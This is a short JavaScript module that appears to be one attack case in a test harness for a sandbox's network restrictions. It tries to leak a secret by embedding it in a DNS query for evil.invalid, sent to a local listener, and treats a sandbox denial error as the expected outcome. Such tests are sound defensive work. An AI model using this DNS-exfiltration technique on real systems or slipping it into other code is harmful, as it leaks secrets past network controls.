// A dns.Resolver pointed at the listener: the query name carries the secret.
import dns from 'node:dns';
export const meta = { kind: 'dns', evidence: 'udp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const resolver = new dns.Resolver({ timeout: 200, tries: 1 });
    resolver.setServers([`127.0.0.1:${ctx.udpPort}`]);
    resolver.resolve4(`${ctx.secret}.evil.invalid`, (error) => {
      if (error && error.code === 'ERR_LEASH_DENIED') reject(error);
      else resolve('queried');
    });
  });
}
